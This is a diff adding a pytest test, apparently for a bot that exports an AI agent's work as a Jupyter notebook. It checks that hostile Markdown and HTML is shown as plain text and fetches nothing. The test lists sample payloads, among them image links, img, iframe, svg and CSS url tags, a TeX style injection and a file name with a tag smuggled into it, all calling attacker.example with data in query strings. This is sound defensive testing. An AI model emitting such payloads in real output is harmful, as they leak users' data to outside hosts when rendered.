@@ -17,6 +17,7 @@ from typing import Any
 
 import nbformat
 import pytest
+from markdown_it import MarkdownIt
 
 from bot.agent.blocks import tool_result
 from bot.agent.tools import Toolbox, ToolOutcome
@@ -644,3 +645,61 @@ async def test_the_charts_taken_are_capped_by_those_found(tmp_path: Path) -> Non
     call = ToolCallRecord("r1", "c1", "run_code", "python", code, "ok", 0, 0.1, "", 1.0)
 
     assert list(await saved_charts(tmp_path, [call])) == names[:CHARTS_MAX]
+
+
+# -- hostile Markdown: nothing in the notebook fetches from the web when it is opened
+
+HOSTILE = [
+    "![rows](https://attacker.example/p.png?d=1402617695)",
+    "![a [nested] alt](https://attacker.example/nested.png)",
+    '![t](<https://attacker.example/spaced name.png> "title")',
+    "![ref][chart]\n\n[chart]: https://attacker.example/ref.png",
+    "![collapsed][]\n\n[collapsed]: https://attacker.example/collapsed.png",
+    '<img src="https://attacker.example/img.png?d=rows">',
+    "<IMG SRC=https://attacker.example/upper.png>",
+    '<div style="background:url(https://attacker.example/bg.png)">x</div>',
+    "<svg><image href='https://attacker.example/svg.png'/></svg>",
+    "<!-- a comment --><iframe src=https://attacker.example/frame></iframe>",
+    "text\n<picture><source srcset=https://attacker.example/src.png></picture>",
+    "$\\style{background:url(https://attacker.example/tex.png)}{x}$",
+]
+
+
+def fetches(markdown: str) -> list[str]:
+    """What opening the Markdown would fetch or run: images (inline, by reference), raw
+    HTML tags, TeX (Jupyter's math starts at a dollar sign), as a CommonMark reader sees them."""
+    found: list[str] = []
+    tokens = MarkdownIt("commonmark").parse(markdown)
+    for token in tokens:
+        if token.type == "html_block":
+            found.append(token.content)
+        for child in token.children or []:
+            if child.type in ("image", "html_inline"):
+                found.append(str(child.attrs.get("src") or child.content))
+    return found + [m for m in re.findall(r"(?<!\\)\$[^$]+\$", markdown)]
+
+
+async def test_hostile_markdown_is_shown_as_text_and_fetches_nothing() -> None:
+    thread = Thread()
+    steps: list[Step] = [
+        ("python", "print('<img src=https://attacker.example/out.png>')",
+         await outcome("<img src=https://attacker.example/out.png>\n")),
+        ("list_files", "/buddy/work",
+         ToolOutcome("```\n<img src=https://attacker.example/note.png>", False, "ok",
+                     excerpt="1 entries")),
+    ]  # fmt: skip
+    thread.ask("Show <img src=https://attacker.example/q.png> me", steps, "\n\n".join(HOSTILE))
+    name = "a`<img src=https://attacker.example/f.png>`.csv"
+    hostile_file = dataclasses.replace(population_file(), name=name)
+    read = validated(notebook(thread.runs, thread.calls, thread.history, [hostile_file]))
+
+    first = read.cells[0]
+    assert first.cell_type == "markdown"
+    assert "written by a model" in text(first) and "sandbox" in text(first)
+    for cell in read.cells:
+        if cell.cell_type == "markdown":
+            assert fetches(text(cell)) == [], text(cell)
+        for out in cell.get("outputs", []):  # text outputs only, shown as text
+            assert set(out.get("data", {})) <= {"image/png", "text/plain"}
+    answer = text(read.cells[-1])
+    assert "_[an image left out: rows]_" in answer and "1402617695" not in answer
